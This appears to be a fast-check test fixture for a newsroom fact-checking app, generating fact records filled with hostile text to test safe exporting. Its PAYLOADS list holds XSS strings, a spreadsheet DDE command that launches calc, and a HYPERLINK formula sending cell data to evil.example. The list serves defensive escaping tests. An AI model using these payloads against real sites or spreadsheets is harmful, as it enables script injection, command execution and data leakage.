import fc from 'fast-check';
import { DEFAULT_SCALE } from '../../src/domain/verdict-scale/index.js';
import type { Edition } from '../../src/exports/formats/index.js';
import type { FactRow } from '../../src/facts/index.js';

/** Ends a script element, a comment, a line of old JavaScript, a cell, an element; or would be run by a spreadsheet. */
export const PAYLOADS = [
  '</script><script>alert(1)</script>',
  '</ScRiPt\t/><img src=x onerror=alert(1)>',
  '<!--<script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '\u2028alert(1)\u2029',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '&lt;script&gt;&amp;#x3c;',
  '</style></title></textarea><script>alert(1)</script>',
  'javascript:alert(1)',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  '＝1＋1',
  '","=1+1","',
  'a\r\n=1+1,b',
  '_x003D_1+1',
  '<f>1+1</f>',
  '</t></is></c>',
  '{{constructor.constructor("alert(1)")()}}',
  '\\u003cscript\\u003e',
] as const;

/** Text of any kind that can be stored, with a bias to what is dangerous. */
export const hostileText: fc.Arbitrary<string> = fc
  .oneof(
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc.constantFrom(...PAYLOADS),
    fc
      .array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', ';', "'", '\ufeff', '＝', '＋', '－', '＠', '|', 'cmd', '</script>', '<!--', '-->', '\u2028', '\u2029', '&amp;', ' '), { maxLength: 8 })
      .map((parts) => parts.join('')),
  )
  .map((value) => value.toWellFormed());

const address = fc.webUrl({ withQueryParameters: true });

/** A fact with the text in each field that a person may write. */
export const factWith = (text: fc.Arbitrary<string>, url: fc.Arbitrary<string> = text): fc.Arbitrary<FactRow> =>
  fc.record({
    id: fc.uuid(),
    claim_id: fc.uuid(),
    slug: fc.constant('a-fact-deadbeef'),
    statement: text,
    verdict: fc.constantFrom('verified' as const, 'contradicted' as const, 'not_checkable' as const),
    summary: text,
    speaker: fc.option(text, { nil: null }),
    evidence: fc.array(fc.record({ url, quote: text, stance: fc.constant('supports' as const) }), { maxLength: 3 }),
    appearances: fc.array(fc.record({ source: fc.option(text, { nil: null }), title: text, url: fc.option(url, { nil: null }), publishedAt: fc.constantFrom(null, '2031-04-30T08:00:00.000Z') }), { maxLength: 3 }),
    valid_from: fc.constant(null),
    as_of: fc.constant('2031-05-02'),
    valid_until: fc.constantFrom(null, '2031-12-31'),
    publication_state: fc.constant('published' as const),
    change: fc.constant('corrected' as const),
    note: fc.constant(null),
    corrections: fc.array(fc.record({ at: fc.constant('2031-05-03T09:00:00.000Z'), note: text, change: fc.constant('corrected' as const) }), { maxLength: 2 }),
    approval_id: fc.uuid(),
    approved_by: fc.uuid(),
    approver_name: text,
    content_hash: fc.constant('0'.repeat(64)),
    published_at: fc.constant(new Date('2031-05-02T09:00:00Z')),
    modified_at: fc.constant(new Date('2031-05-03T09:00:00Z')),
    version: fc.constant(2),
  });

/** Facts as the desk lets them in: hostile words, but addresses that are some. */
export const storedFact: fc.Arbitrary<FactRow> = factWith(hostileText, address);

/** One fact that has the very text in each field. */
export function aFactOf(text: string): FactRow {
  const [fact] = fc.sample(factWith(fc.constant(text), fc.constant('https://outlet.example/1')), { seed: 1, numRuns: 1 });
  const seen = { source: text, title: text, url: 'https://outlet.example/1', publishedAt: null };
  return { ...fact!, speaker: text, evidence: [{ url: 'https://register.example/1', quote: text, stance: 'supports' }], appearances: [seen], corrections: [{ at: '2031-05-03T09:00:00.000Z', note: text, change: 'corrected' }] };
}

/** Of a newsroom that is called so. */
export const anEdition = (newsroomName = 'The Test Desk'): Edition => ({ newsroomName, publicUrl: 'https://desk.example', scale: DEFAULT_SCALE, asOf: '2031-05-04T10:30:00.000000Z' });

/** The same fact, taken back. */
export const withdrawn = (fact: FactRow, note: string): FactRow => ({
  ...fact,
  publication_state: 'withdrawn',
  change: 'withdrawn',
  note,
  corrections: [...fact.corrections, { at: '2031-05-04T09:00:00.000Z', note, change: 'withdrawn' }],
});
